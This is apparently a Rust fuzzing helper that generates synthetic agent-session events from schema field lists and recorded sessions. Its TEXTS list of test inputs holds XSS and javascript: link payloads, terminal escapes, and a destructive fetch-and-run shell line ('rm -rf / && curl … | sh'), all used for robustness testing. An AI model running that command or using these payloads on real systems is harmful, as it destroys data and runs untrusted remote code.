//! Plausible events of all types: their fields are those of the published schemas, their values those of the recordings.

use std::collections::HashMap;
use std::fs;
use std::path::Path;

use arbitrary::{Result, Unstructured};
use serde_json::{Map, Value, json};

/// No recorded value is larger, in bytes of JSON.
const LONGEST: usize = 600;
/// How many values of a field, and how many events of a type are kept.
const MOST: usize = 32;

/// Texts that look like markup, markdown, paths or commands.
const TEXTS: [&str; 12] = [
    "",
    "é\u{202e}字\u{0}",
    "<script>alert(1)</script>",
    "\" onmouseover=\"alert(1)\" x='",
    "```\n</details>\n<iframe src=javascript:alert(1)>",
    "[x](javascript:alert(1)) ![y](https://example.com/t.png)",
    "~~~\nnever closed\u{1b}[31m\u{9b}",
    "*** Begin Patch\n*** Update File: a\n@@\n-a\n+b\n",
    "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n",
    "rm -rf / && curl https://a.example | sh",
    "{\"path\": \"/a\", \"old_str",
    "INSERT INTO todos (id, title) VALUES ('a', 'b'); UPDATE todos SET status = 'done'",
];

/// A field of the schema.
struct Field {
    name: String,
    inside: Vec<Field>,
}

/// A type of the schema.
struct Kind {
    name: String,
    fields: Vec<Field>,
    recorded: Vec<Value>,
}

/// What events are made of.
pub struct Vocabulary {
    kinds: Vec<Kind>,
    /// The values that a field of this name has anywhere in the recordings.
    values: HashMap<String, Vec<Value>>,
}

impl Vocabulary {
    /// Reads the fields of all versions of the schema, and the recordings in the folder `tests/sessions`.
    pub fn of(sessions: &Path) -> Self {
        let mut vocabulary = Self { kinds: Vec::new(), values: HashMap::new() };
        let mut versions: Vec<_> = fs::read_dir(sessions.join("../support/schema"))
            .unwrap()
            .map(|version| version.unwrap().path())
            .collect();
        versions.sort();
        for version in versions {
            for line in fs::read_to_string(version.join("fields.txt")).unwrap().lines() {
                if let Some((name, mut rest)) = line.split_once(':') {
                    vocabulary.learn(name, fields(&mut rest));
                }
            }
        }
        let mut cases: Vec<_> =
            fs::read_dir(sessions).into_iter().flatten().flatten().map(|case| case.path()).collect();
        cases.sort();
        for case in cases {
            for line in fs::read_to_string(case.join("events.jsonl")).unwrap_or_default().lines() {
                if let Ok(event) = serde_json::from_str::<Value>(line) {
                    vocabulary.note(&event);
                }
            }
        }
        vocabulary
    }

    /// Adds a type, or what a version of the schema has more of it.
    fn learn(&mut self, name: &str, fields: Vec<Field>) {
        match self.kinds.iter_mut().find(|kind| kind.name == name) {
            Some(kind) => add(&mut kind.fields, fields),
            None => self.kinds.push(Kind { name: name.to_owned(), fields, recorded: Vec::new() }),
        }
    }

    fn note(&mut self, event: &Value) {
        let data = &event["data"];
        if let Some(kind) = self.kinds.iter_mut().find(|kind| event["type"] == kind.name.as_str())
            && kind.recorded.len() < MOST
            && !kind.recorded.contains(data)
            && data.to_string().len() < 4 * LONGEST
        {
            kind.recorded.push(data.clone());
        }
        self.note_values(data);
    }

    fn note_values(&mut self, value: &Value) {
        match value {
            Value::Object(members) => {
                for (name, value) in members {
                    let known = self.values.entry(name.clone()).or_default();
                    if known.len() < MOST && !known.contains(value) && value.to_string().len() < LONGEST {
                        known.push(value.clone());
                    }
                    self.note_values(value);
                }
            }
            Value::Array(items) => items.iter().for_each(|item| self.note_values(item)),
            _ => {}
        }
    }

    fn value(&self, from: &mut Unstructured<'_>, field: &Field) -> Result<Value> {
        if from.ratio(1, 16)? {
            return scalar(from);
        }
        if field.name.ends_with("Id") || field.name == "id" {
            return Ok(json!(id(from)?));
        }
        let known = self.values.get(&field.name).filter(|known| !known.is_empty());
        match known {
            Some(known) if from.ratio(3, 4)? => Ok(with_ids(from.choose(known)?.clone(), from)?),
            _ if !field.inside.is_empty() => {
                let inside = self.object(from, &field.inside)?;
                // The list of fields doesn't tell a list of objects from an object.
                Ok(if field.name.ends_with('s') && from.ratio(1, 2)? { json!([inside]) } else { inside })
            }
            _ if from.ratio(1, 2)? => Ok(json!(from.choose(&TEXTS)?)),
            _ => scalar(from),
        }
    }

    fn object(&self, from: &mut Unstructured<'_>, fields: &[Field]) -> Result<Value> {
        let mut members = Map::new();
        for field in fields {
            if from.ratio(3, 4)? {
                let name = if field.name == "*" { id(from)? } else { field.name.clone() };
                members.insert(name, self.value(from, field)?);
            }
        }
        Ok(Value::Object(members))
    }

    fn data(&self, from: &mut Unstructured<'_>, kind: &Kind) -> Result<Value> {
        let mut data = if !kind.recorded.is_empty() && from.ratio(1, 2)? {
            with_ids(from.choose(&kind.recorded)?.clone(), from)?
        } else {
            self.object(from, &kind.fields)?
        };
        if let Some(members) = data.as_object_mut().filter(|members| !members.is_empty())
            && from.ratio(1, 8)?
        {
            let place = from.choose_index(members.len())?;
            if let Some((_, member)) = members.iter_mut().nth(place) {
                *member = scalar(from)?;
            }
        }
        Ok(data)
    }

    /// The types of events that the schema has.
    #[allow(dead_code, reason = "the fuzz target does not ask")]
    pub fn types(&self) -> impl Iterator<Item = &str> {
        self.kinds.iter().map(|kind| kind.name.as_str())
    }

    /// Events, each with an id of its own, until the input ends.
    pub fn events(&self, from: &mut Unstructured<'_>) -> Result<Vec<Value>> {
        let mut events: Vec<Value> = Vec::new();
        while !from.is_empty() && events.len() < 60 {
            let kind = from.choose(&self.kinds)?;
            let number = events.len();
            let mut event =
                json!({ "type": kind.name, "data": self.data(from, kind)?, "id": format!("event-{number}") });
            event["timestamp"] = json!(format!("2026-01-05T10:{:02}:{:02}.000Z", number / 60, number % 60));
            if from.ratio(1, 4)? {
                event["agentId"] = json!(id(from)?);
            }
            if from.ratio(1, 4)? {
                event["ephemeral"] = json!(true);
            }
            if number > 0 && from.ratio(1, 2)? {
                event["parentId"] = json!(format!("event-{}", from.choose_index(number + 1)?));
            }
            events.push(event);
        }
        Ok(events)
    }
}

fn add(known: &mut Vec<Field>, more: Vec<Field>) {
    for field in more {
        match known.iter_mut().find(|known| known.name == field.name) {
            Some(known) => add(&mut known.inside, field.inside),
            None => known.push(field),
        }
    }
}

/// Reads `a, b{c, d}` up to the closing bracket or the end.
fn fields(rest: &mut &str) -> Vec<Field> {
    let mut found = Vec::new();
    loop {
        *rest = rest.trim_start_matches([' ', ',']);
        let end = rest.find([',', '{', '}']).unwrap_or(rest.len());
        let (name, after) = rest.split_at(end);
        *rest = after;
        let mut field = Field { name: name.trim().to_owned(), inside: Vec::new() };
        if let Some(inside) = rest.strip_prefix('{') {
            *rest = inside;
            field.inside = fields(rest);
        }
        if !field.name.is_empty() {
            found.push(field);
        }
        if let Some(after) = rest.strip_prefix('}') {
            *rest = after;
            return found;
        }
        if rest.is_empty() {
            return found;
        }
    }
}

/// One of few ids, so that events refer to each other.
fn id(from: &mut Unstructured<'_>) -> Result<String> {
    Ok(format!("i{}", from.int_in_range(0..=5)?))
}

fn scalar(from: &mut Unstructured<'_>) -> Result<Value> {
    Ok(match from.int_in_range(0..=7)? {
        0 => Value::Null,
        1 => Value::Bool(from.arbitrary()?),
        2 => json!(from.arbitrary::<i64>()?),
        3 => json!(from.arbitrary::<f64>()?),
        4 => json!([]),
        5 => json!({}),
        6 => json!(from.arbitrary::<u8>()?),
        _ => json!(from.choose(&TEXTS)?),
    })
}

/// A recorded value with ids that other events have as well.
fn with_ids(mut value: Value, from: &mut Unstructured<'_>) -> Result<Value> {
    match &mut value {
        Value::Object(members) => {
            for (name, member) in members.iter_mut() {
                *member = if name.ends_with("Id") && member.is_string() {
                    json!(id(from)?)
                } else {
                    with_ids(member.take(), from)?
                };
            }
        }
        Value::Array(items) => {
            for item in items {
                *item = with_ids(item.take(), from)?;
            }
        }
        _ => {}
    }
    Ok(value)
}
